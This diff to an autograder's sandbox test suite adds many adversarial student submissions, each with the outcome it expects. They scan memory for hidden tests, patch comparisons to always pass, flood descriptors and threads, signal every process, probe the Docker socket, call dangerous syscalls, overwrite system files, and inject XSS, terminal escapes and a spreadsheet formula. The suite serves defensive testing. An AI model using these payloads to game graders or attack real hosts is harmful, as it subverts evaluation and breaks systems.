@@ -30,7 +30,9 @@ class Attack:
     module: str = ""  # stands at the end of the student module; a later definition wins
     cells: Mapping[str, str] = field(default_factory=dict)  # code before a question's check cell
     may_lose: frozenset[str] = frozenset()  # tasks that it may cost itself
+    spoils: bool = False  # the kernel lives on but cannot answer: hidden tests are asked of it
     fast: bool = False
+    name_of_student: str = ""
 
     def on(self, solution: Submission, words: Mapping[str, str]) -> Submission:
         """The attack put into a solution."""
@@ -39,7 +41,10 @@ class Attack:
         )
         for question, code in self.cells.items():
             made = demo.with_cell(made, question, _filled(code, words))
-        return replace(made, id=self.name, source=f"{self.name}.zip")
+        odd = self.name_of_student
+        return replace(
+            made, id=self.name, source=f"{odd or self.name}.zip", name=odd, student_id=odd[:200]
+        )
 
 
 def _filled(code: str, words: Mapping[str, str]) -> str:
@@ -363,6 +368,311 @@ for path in glob.glob(os.path.dirname(line) + "/*"):
         except OSError as error: print(error)
 """
 
+_SEARCH_MEMORY = """\
+import gc, re
+found = []
+wanted = [b"hidden" + b"=True", b"canary" + b"-", b"expect" + b".quantity", b"expect" + b".agrees"]
+with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
+    for line in maps:
+        start, end = (int(part, 16) for part in line.split()[0].split("-"))
+        if " rw-p " in line and end - start < 2**27:
+            try:
+                memory.seek(start)
+                data = memory.read(end - start)
+            except (OSError, ValueError, OverflowError):
+                continue
+            for word in wanted:
+                at = data.find(word)
+                if at >= 0: print(data[max(0, at - 200):at + 2000])
+for thing in gc.get_objects():
+    if isinstance(thing, str) and "hidden" + "=True" in thing: print(thing)
+"""
+
+_PATCH_WORKER = """\
+import sys
+kernel = get_ipython().kernel
+answers, wire = kernel.answers, sys.modules["wire"]
+answers.keep = lambda value: {"passed": True}
+answers.kept_object = lambda handle: 1.0
+answers.ask_function = lambda name: (lambda *a, **k: (0.0, 1.0))
+inner = wire.pack
+for name in ("_ENCODERS", "_DECODERS", "RESULT_MAKERS"): getattr(wire, name).clear()
+wire.MAX_BYTES = wire.MAX_DEPTH = wire.MAX_ITEMS = 10**12
+wire.Handle = lambda *a: True
+"""
+
+_PATCH_NUMBERS = """\
+import builtins, math, numpy as np, pandas as pd
+yes = lambda *a, **k: True
+for module in (np, math, pd, np.testing):
+    for name in ("isclose", "allclose", "array_equal", "isfinite", "isnan", "assert_allclose"):
+        if hasattr(module, name): setattr(module, name, yes)
+np.abs = np.absolute = math.fabs = lambda *a: 0.0
+for name in ("abs", "isinstance", "all", "any", "max", "min", "round", "sum"):
+    setattr(builtins, name, lambda *a, **k: 0)
+"""
+
+_NEAR_NUMBERS = """\
+import decimal as _d, fractions as _f, numpy as _np
+_turn = [0]
+def lrt_psi(ll0, ll1):
+    _turn[0] += 1
+    kinds = ["0.025", b"1.0", _d.Decimal("1.0"), _f.Fraction(1, 2), _np.str_("0.5"), 1 + 0j,
+             complex("nan"), float("inf"), -float("inf"), float("nan"), 10 ** 390, [[[1.0]]],
+             _np.longdouble(1), _np.datetime64("2027-01-01"), _np.timedelta64(1), True, None, ...,
+             _np.bool_(True), {"a": 1.0}.values(), range(2), _np.array("1.0"), slice(0), int, iter([1.0])]
+    kind = kinds[_turn[0] % len(kinds)]
+    return (kind, kind)
+"""
+
+_ODD_ARRAYS = """\
+import numpy as _np, pandas as _pd
+class _Address:
+    __array_interface__ = {"shape": (2,), "typestr": "<f8", "data": (8, False), "version": 3}
+class _Series(_pd.Series):
+    @property
+    def _constructor(self): return _Series
+    def equals(self, other): return True
+class _Lazy:
+    def __dlpack__(self, **k): return None
+    def __array__(self, *a, **k): return _np.zeros(2)
+    def __len__(self): return 10 ** 18
+_turn = [0]
+def lrt_psi(ll0, ll1):
+    _turn[0] += 1
+    masked = _np.ma.masked_array([1.0, 2.0], mask=[True, False])
+    record = _np.zeros(2, dtype=[("a", "f8"), ("b", "O")])
+    nested = _np.empty(2, dtype=object); nested[:] = [nested, _Lazy()]
+    return [_Address(), _Series([1.0, 2.0]), _Lazy(), masked, record, nested, _np.zeros((0, 10**9)),
+            _pd.Categorical(["a"]), _pd.arrays.IntervalArray.from_breaks([0, 1]),
+            _pd.DataFrame(columns=range(9000)), _pd.MultiIndex.from_product([range(9)] * 5),
+            _np.zeros(2, dtype=">f8"), _pd.array([1, None], dtype="Int64")][_turn[0] % 13]
+"""
+
+_REPLAY = """\
+kernel = get_ipython().kernel
+inner, seen = kernel.answers.answer, []
+def replayed(data):
+    seen.append(inner(data))
+    return seen[0] if len(seen) % 2 else seen[len(seen) // 2]
+kernel.answers.answer = replayed
+ask, session = kernel.hlm_ask, kernel.session
+def twice(stream, ident, parent):
+    ask(stream, ident, parent)
+    for other in (parent, {"header": {"msg_id": "x"}}, {}):
+        session.send(stream, "hlm_reply", {"ok": True, "output": ""}, other, ident=ident,
+                     buffers=[seen[0][1]])
+kernel.shell_handlers["hlm_ask"] = twice
+"""
+
+_LATE = """\
+import threading, time
+kernel = get_ipython().kernel
+ask, session = kernel.hlm_ask, kernel.session
+def late(stream, ident, parent):
+    def send():
+        time.sleep(8)
+        session.send(stream, "hlm_reply", {"ok": True}, parent, ident=ident, buffers=[b"x" * 10**6])
+    threading.Thread(target=send, daemon=True).start()
+kernel.shell_handlers["hlm_ask"] = late
+"""
+
+_BROKEN_FRAMES = """\
+import json
+kernel = get_ipython().kernel
+frames = [[b""], [b"<IDS|MSG>"], [b"x", b"<IDS|MSG>", b"bad", b"{", b"{", b"{", b"{"], [b"x"] * 500,
+          [b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", b"[]"], [b"<IDS|MSG>"] + [b"\\xff" * 100] * 5,
+          [b"<IDS|MSG>", b"", b"[" * 10**5, b"{}", b"{}", b"{}"], [b"y" * (40 * 2**20)]]
+for parts in frames:
+    for line in (kernel.iopub_socket,):
+        try: line.send_multipart(parts)
+        except Exception as error: print(type(error))
+deep = current = {}
+for _ in range(300): current["a"] = current = {}
+try: kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": deep})
+except Exception as error: print(type(error))
+"""
+
+_FD_FLOOD = """\
+import os
+held = []
+try:
+    while True: held.append(os.open("/dev/null", os.O_RDONLY))
+except OSError as error:
+    print(len(held), error)
+for descriptor in held: os.close(descriptor)
+def lrt_psi(*a):
+    while True: held.append(open("/dev/null"))
+"""
+
+_THREADS = """\
+import threading, time
+started = 0
+try:
+    while started < 5000:
+        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
+        started += 1
+except (RuntimeError, MemoryError) as error:
+    print(started, error)
+assert started < 5000
+"""
+
+_SIGNALS = """\
+import os, signal
+for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP, signal.SIGUSR1):
+    for pid in (1, os.getppid(), -1, *range(3, 3000)):
+        if pid == os.getpid(): continue
+        try: os.kill(pid, number)
+        except OSError: pass
+    try: os.killpg(os.getpgid(os.getppid()), number)
+    except OSError: pass
+"""
+
+_TIMERS = """\
+import signal, time
+def often(*a): raise RuntimeError("alarm")
+signal.signal(signal.SIGALRM, often); signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
+for number in range(1, 32):
+    try: signal.signal(number, signal.SIG_IGN if number != signal.SIGALRM else often)
+    except (OSError, ValueError): pass
+time.sleep(1)
+"""
+
+_SOCKETS = """\
+import glob, os, socket
+families = [getattr(socket, name) for name in dir(socket) if name.startswith("AF_")]
+for family in families:
+    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
+        try:
+            with socket.socket(family, kind) as line:
+                line.settimeout(1)
+                for address in [("127.0.0.1", @PORT@), ("::1", @PORT@), (2, @PORT@), "/run/docker.sock",
+                                "/var/run/dbus/system_bus_socket", "\\0@SOCKET@", (1, 1), (0, 0)]:
+                    try:
+                        line.connect(address); line.send(b"stolen"); print("reached", address)
+                    except (OSError, TypeError, ValueError): pass
+        except (OSError, ValueError): pass
+for path in glob.glob("/**/*.sock", recursive=True)[:50] + glob.glob("/tmp/hlm-*/**", recursive=True):
+    try:
+        line = socket.socket(socket.AF_UNIX); line.settimeout(1); line.connect(path); line.send(b"x")
+    except OSError: pass
+"""
+
+_CALLS = """\
+import ctypes, os, struct
+libc = ctypes.CDLL(None, use_errno=True)
+numbers = {"ptrace": 101, "process_vm_readv": 310, "process_vm_writev": 311, "keyctl": 250,
+           "bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "io_uring_setup": 425, "unshare": 272,
+           "open_by_handle_at": 304, "mount": 165, "umount2": 166, "pivot_root": 155, "fsopen": 430,
+           "open_tree": 428, "clone3": 435, "setns": 308, "chroot": 161, "kexec_load": 246,
+           "init_module": 175, "reboot": 169, "pidfd_getfd": 438, "move_mount": 429, "acct": 163}
+worked = [name for name, number in numbers.items() if libc.syscall(number, 1, 1, 0, 0, 0, 0) >= 0]
+for flag in (0x00020000, 0x10000000, 0x20000000, 0x40000000):
+    if libc.syscall(56, flag | 17, 0, 0, 0, 0) == 0: os._exit(0)
+for name in ("mnt", "pid", "net", "user", "ipc", "cgroup"):
+    for pid in (1, os.getppid()):
+        try: worked += [name] * (libc.setns(os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY), 0) == 0)
+        except OSError: pass
+assert not worked, worked
+"""
+
+_POISON = """\
+import ctypes, gc, os, sys
+ctypes.c_uint32.from_address(id(250) + 24).value = 9  # an object that every process has, at first
+with open("/proc/self/maps") as maps:
+    shared = [line for line in maps if line.split()[1][1] == "w" and line.split()[1][3] == "s"]
+libraries = {line.split()[-1] for line in open("/proc/self/maps") if ".so" in line}
+for path in [*libraries, "/judge/worker.py", "/judge/wire.py", "/judge/forker.py"]:
+    try:
+        with open(path, "r+b") as file: file.write(b"poison")
+    except OSError: pass
+for folder in ("/proc/sys/kernel", "/proc/sys/user", "/proc/self/../1", "/sys/fs/cgroup", "/proc/sys/fs"):
+    for where, _, names in os.walk(folder):
+        for name in names:
+            try: open(f"{where}/{name}", "w").write("1")
+            except OSError: pass
+for fd in range(3, 512):
+    try: os.write(fd, b'{"ready": true}')
+    except OSError: pass
+import numpy, pandas, json
+json.loads = numpy.array = pandas.DataFrame = None
+assert not shared, shared
+"""
+
+_MARKUP = """\
+from IPython.display import HTML, SVG, Javascript, Markdown, Latex, display
+evil = "<script>hostileScript()</script><img src=x onerror=hostileScript()>"
+for kind in (HTML, Markdown, Latex): display(kind(evil))
+display(HTML("<a href='javascript:hostileScript()'>a</a><iframe srcdoc='" + evil + "'></iframe>"
+             "<base href='//evil'><meta http-equiv=refresh content='0;url=//evil'><style>*{}</style>"))
+display(Javascript("hostileScript()"))
+display({"image/svg+xml": f"<svg onload=hostileScript()>{evil}</svg>", "text/html": evil,
+         "application/javascript": "hostileScript()", "image/png": evil, "text/latex": evil}, raw=True)
+print("\\x1b]0;title\\x07\\x1b[2J\\x1b[31mred\\x1b]8;;http://evil\\x07", "\\u202egnp.exe\\u202c", "\\x00", evil)
+"""
+
+_MARKUP_ERRORS = """\
+_evil = "<script>hostileScript()</script><img src=x onerror=hostileScript()>\\x1b[2J\\u202e"
+_Odd = type(_evil, (ValueError,), {})
+def lrt_psi(ll0, ll1):
+    print(_evil * 50)
+    raise _Odd(_evil * 1000)
+"""
+
+_LONG = "raise ValueError('x' * 10**7 + '\\\\u202e')"
+
+_HUGE_RESULT = """\
+for index in range(20_000): display(index)
+"x" * (50 * 2**20)
+"""
+
+_IMPORTS = """\
+import importlib, sys, types
+class Finder:
+    def find_spec(self, name, path=None, target=None):
+        if name.startswith(("hlmtools", "numpy")): raise SystemExit(name)
+sys.meta_path.insert(0, Finder())
+sys.path[:] = ["/tmp"]
+sys.modules["hlmtools.variance_components"] = types.SimpleNamespace(
+    lrt_psi=lambda *a: (0.0, 1.0), passed=True)
+"""
+
+_QUINE = """\
+import builtins
+class _Hooked(dict):
+    def __missing__(self, key): return 1.0
+    def __getitem__(self, key): return 1.0
+get_ipython().user_ns.__class__
+get_ipython().kernel.answers.namespace = _Hooked()
+builtins.__import__ = lambda *a, **k: (_ for _ in ()).throw(SystemExit)
+"""
+
+_EXHAUST_HANDLES = """\
+class _Thing:
+    def __getattr__(self, name): return _Thing()
+    def __getitem__(self, key): return [_Thing() for _ in range(5000)]
+    def __call__(self, *a, **k): return [_Thing() for _ in range(5000)]
+    def __iter__(self): return iter([_Thing()] * 5000)
+def lrt_psi(ll0, ll1):
+    return [_Thing() for _ in range(9_999)]
+"""
+
+_CGROUP = """\
+import glob, os
+for path in glob.glob("/sys/fs/cgroup/**", recursive=True)[:500] + ["/proc/self/cgroup"]:
+    for text in ("0", "max", str(os.getpid())):
+        try: open(path, "w").write(text)
+        except OSError: pass
+try: os.nice(-20)
+except OSError: pass
+for number in range(16):
+    import resource
+    try: resource.setrlimit(number, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
+    except (OSError, ValueError): pass
+    else: print("raised", number, resource.getrlimit(number))
+open("/proc/self/oom_score_adj", "w").write("-1000")
+"""
+
 ATTACKS = (
     Attack(
         "reads-secrets",
@@ -390,6 +700,7 @@ ATTACKS = (
         "replaces otter, the checks, builtins and the worker's own answers in its process",
         "the judge is another process: task 1.7 stays at 0",
         cells={"task1_7": _PATCH},
+        spoils=True,
     ),
     Attack(
         "lying-objects",
@@ -418,6 +729,7 @@ ATTACKS = (
         "they are refused; only tasks from there on are lost",
         cells={"task1_7": _PICKLE_REPLY},
         may_lose=frozenset({"1.8"}),
+        spoils=True,
     ),
     Attack(
         "hangs-up",
@@ -425,6 +737,7 @@ ATTACKS = (
         "the judge does not wait for it; only tasks from there on are lost",
         cells={"task1_7": _HANG_UP},
         may_lose=frozenset({"1.8"}),
+        spoils=True,
     ),
     Attack(
         "forged-messages",
@@ -511,5 +824,185 @@ ATTACKS = (
         "at most tasks from there on are lost, and nothing outside is written",
         cells={"task1_7": _LINE},
         may_lose=frozenset({"1.8"}),
+        spoils=True,
+    ),
+    Attack(
+        "searches-memory",
+        "reads all of its own memory, which was once the warm process's, for tests and secrets",
+        "they never were in it",
+        cells={"task1_7": _SEARCH_MEMORY},
+        may_lose=frozenset({"1.8"}),  # large outputs may still be on their way
+    ),
+    Attack(
+        "patches-the-worker",
+        "replaces what packs, keeps and looks up values in the kernel's process",
+        "answers become worthless from there on, never right",
+        cells={"task1_7": _PATCH_WORKER},
+        may_lose=frozenset({"1.8"}),
+        spoils=True,
+    ),
+    Attack(
+        "patches-comparisons",
+        "makes numpy's, math's and Python's comparisons say yes",
+        "comparisons are made in the judge",
+        cells={"task1_7": _PATCH_NUMBERS},
+        may_lose=frozenset({"1.8"}),
+        spoils=True,
+    ),
+    Attack(
+        "near-numbers",
+        "answers with texts, decimals, complex, infinite and missing numbers, dates and truths",
+        "none of them is taken for the number",
+        module=_NEAR_NUMBERS,
+        fast=True,
+    ),
+    Attack(
+        "odd-arrays",
+        "answers with arrays at address 8, masked, structured, nested and subclassed ones",
+        "they stay behind, or cross as the plain numbers they hold",
+        module=_ODD_ARRAYS,
+    ),
+    Attack(
+        "replayed-replies",
+        "answers with earlier answers, and each question several times",
+        "an answer counts for its own question only",
+        cells={"task1_7": _REPLAY},
+        may_lose=frozenset({"1.8"}),
+        spoils=True,
+    ),
+    Attack(
+        "late-replies",
+        "answers when the time for an answer is over",
+        "too late is no answer, and no later question gets it",
+        cells={"task1_7": _LATE},
+        may_lose=frozenset({"1.8"}),
+        spoils=True,
+    ),
+    Attack(
+        "broken-frames",
+        "sends frames that are no messages, and one of 40 MB, to where the judge listens",
+        "at most tasks from there on are lost",
+        cells={"task1_7": _BROKEN_FRAMES},
+        may_lose=frozenset({"1.8"}),
+        spoils=True,
+    ),
+    Attack(
+        "descriptor-flood",
+        "opens files until there are no descriptors, in a cell and while it answers",
+        "bounded; only its own task is lost",
+        module="_held = []\ndef lrt_psi(ll0, ll1):\n    while True: _held.append(open('/dev/null'))\n",
+        cells={"task1_7": _FD_FLOOD},
+        may_lose=frozenset({"1.8"}),
+        spoils=True,
+    ),
+    Attack(
+        "thread-flood",
+        "starts threads until there are none",
+        "bounded before 5,000",
+        cells={"task1_7": _THREADS},
+        may_lose=frozenset({"1.8"}),
+        spoils=True,
+    ),
+    Attack(
+        "signals-everything",
+        "sends four signals to every process number, every group and the first process",
+        "only its own processes exist for it",
+        cells={"task1_1": _SIGNALS},
+    ),
+    Attack(
+        "stops-itself",
+        "stops its own process, which then can neither answer nor be interrupted",
+        "the kernel is replaced",
+        cells={"task1_7": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"},
+    ),
+    Attack(
+        "alarms",
+        "ignores every signal and raises an error a hundred times a second",
+        "the kernel is replaced where it does not answer",
+        cells={"task1_7": _TIMERS},
+        may_lose=frozenset({"1.8"}),
+        spoils=True,
+    ),
+    Attack(
+        "every-socket",
+        "opens a socket of every family and calls every address and every path it finds",
+        "the host's listeners hear nothing",
+        cells={"task1_7": _SOCKETS},
+    ),
+    Attack(
+        "system-calls",
+        "makes the dangerous calls by number, and enters the namespaces of others",
+        "each is refused: the cell's own assertion holds",
+        cells={"task1_1": _CALLS},
+    ),
+    Attack(
+        "poisons-the-warm-process",
+        "writes to shared pages, libraries, the judge's files, switches of the kernel, descriptors",
+        "nothing of it is shared with the warm process; its own tasks after it may suffer",
+        cells={"task1_7": _POISON},
+        may_lose=frozenset({"1.8"}),
+        spoils=True,
+    ),
+    Attack(
+        "markup-in-outputs",
+        "shows scripts, links, frames and terminal escapes in every format",
+        "no page holds them as markup",
+        cells={"task1_7": _MARKUP},
+    ),
+    Attack(
+        "markup-in-errors",
+        "raises errors whose type and text are markup, and prints it while it answers",
+        "they stand as text, cut short",
+        module=_MARKUP_ERRORS,
+    ),
+    Attack(
+        "giant-error",
+        "raises an error with a text of 10 MB",
+        "results and page stay small",
+        cells={"task1_7": _LONG},
+        may_lose=frozenset({"1.8"}),
+    ),
+    Attack(
+        "giant-display",
+        "displays 20,000 objects and a text of 50 MB",
+        "results and page stay small",
+        cells={"task1_7": _HUGE_RESULT},
+        may_lose=frozenset({"1.8"}),
+    ),
+    Attack(
+        "hooks-imports",
+        "replaces the student module, the import system and the search path in the kernel",
+        "what it answers with is judged like any other answer",
+        cells={"task1_7": _IMPORTS},
+        may_lose=frozenset({"1.8"}),
+        spoils=True,
+    ),
+    Attack(
+        "answers-for-every-name",
+        "puts a dictionary that has everything where the worker looks names up",
+        "a number for every name earns nothing",
+        cells={"task1_7": _QUINE},
+        may_lose=frozenset({"1.8"}),
+        spoils=True,
+    ),
+    Attack(
+        "endless-handles",
+        "answers with thousands of objects that answer with thousands of objects",
+        "bounded, and none is taken for a number",
+        module=_EXHAUST_HANDLES,
+        may_lose=frozenset({"1.8", "1.9"}),
+    ),
+    Attack(
+        "raises-its-limits",
+        "writes to cgroups, raises limits, priority and its place when memory runs out",
+        "each is refused",
+        cells={"task1_1": _CGROUP},
+    ),
+    Attack(
+        "names-with-markup",
+        "is handed in under a name with markup, a formula, escapes, right-to-left marks",
+        "pages and tables show it as text",
+        name_of_student="=cmd|'/c calc'!A1<script>hostileScript()</script>\x1b[2J\u202e"
+        + "x" * 10_000,
     ),
 )
